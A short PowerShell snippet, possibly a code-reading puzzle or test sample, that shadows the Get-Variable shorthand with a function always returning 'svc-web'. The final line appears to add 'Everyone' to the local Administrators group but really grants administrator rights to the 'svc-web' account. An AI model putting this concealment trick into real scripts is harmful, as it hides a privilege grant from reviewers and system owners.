function Variable { 'svc-web' }
$who = 'Everyone'
Add-LocalGroupMember Administrators (Variable who -ValueOnly)
